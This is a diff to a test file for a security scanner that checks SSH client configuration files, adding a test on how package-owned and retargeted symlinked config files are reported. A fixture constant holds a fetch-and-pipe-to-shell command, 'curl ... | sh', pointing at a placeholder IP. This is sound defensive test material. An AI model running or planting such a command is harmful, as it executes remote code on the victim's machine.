@@ -1,5 +1,7 @@
+import { appendFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { expect, it } from 'vitest';
-import { scanRoot, shown } from '../../../test/throwaway-root.ts';
+import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
 import { sshClient } from './check.ts';
 
 const shell = 'curl -s http://203.0.113.5/a | sh';
@@ -20,4 +22,16 @@ it('is silent for jump hosts and mild for careless settings', async () => {
     '/home/lin/.ssh/config': 'Host b\n ProxyCommand ssh -W %h:%p jump.example\n ProxyJump none\nHost c\n ProxyCommand nc -X connect -x 192.0.2.3:3128 %h %p\n StrictHostKeyChecking no\nHost d\n LocalCommand echo hi\n IdentityFile ~/.ssh/d\n',
   });
   expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`)).toEqual(['weakness low /root/.ssh/config', 'weakness low /root/.ssh/config']);
+});
+
+it('is silent for what a package links into the folder of settings, and not for what the link was turned to', async () => {
+  const careless = 'Host vsock/*\n StrictHostKeyChecking no\n';
+  const root = makeRoot({ '/etc/ssh/ssh_config': 'Include /etc/ssh/ssh_config.d/*.conf\n', '/usr/lib/systemd/ssh_config.d/20-x.conf': { text: careless, package: 'systemd' }, '/etc/ssh/ssh_config.d/20-x.conf': '->/usr/lib/systemd/ssh_config.d/20-x.conf' });
+  appendFileSync(join(root, 'var/lib/dpkg/info/systemd.list'), '/etc/ssh/ssh_config.d/20-x.conf\n');
+  expect(shown(await scanRoot([sshClient], root))).toEqual([]);
+  const link = join(root, 'etc/ssh/ssh_config.d/20-x.conf');
+  rmSync(link);
+  writeFileSync(join(root, 'etc/ssh/mine.conf'), careless);
+  symlinkSync('/etc/ssh/mine.conf', link);
+  expect(shown(await scanRoot([sshClient], root))).toEqual(['low /etc/ssh/ssh_config.d/20-x.conf']);
 });
